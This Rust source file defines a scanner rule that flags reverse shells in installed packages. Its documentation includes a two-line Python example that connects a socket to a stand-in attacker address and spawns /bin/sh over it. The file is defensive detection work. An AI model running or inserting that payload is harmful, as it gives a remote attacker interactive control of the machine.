use crate::Confidence::High;
use crate::Severity::Critical;
use crate::model::declare_rule;
use crate::rules::behaviour_rule;

declare_rule! {
    /// ## What it finds
    /// A socket wired to a shell: standard streams duplicated onto a socket
    /// (`os.dup2(s.fileno(), 0)`), `pty.spawn("/bin/sh")` after a connect, a process whose
    /// stdin or stdout is a socket.
    ///
    /// ## Why it matters
    /// It hands a remote attacker an interactive shell on the machine that installed or
    /// imported the package.
    ///
    /// ## Example
    /// ```python
    /// s = socket.socket(); s.connect(("203.0.113.9", 4444))
    /// [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; pty.spawn("/bin/sh")
    /// ```
    ///
    /// ## When it is wrong
    /// Remote-administration tools are built this way on purpose; they are not
    /// dependencies you install by accident. Allow the artifact by sha256 if you must.
    ReverseShell {
        id: "reverse-shell",
        summary: "a shell is connected to a network socket",
        severity: Critical,
        confidence: High,
    }
}

behaviour_rule!(
    ReverseShell,
    ReverseShell,
    [Some(Critical), Some(Critical), Some(Critical)],
    |_| High,
    |b| format!("{} ({})", b.detail, crate::when(b.context))
);
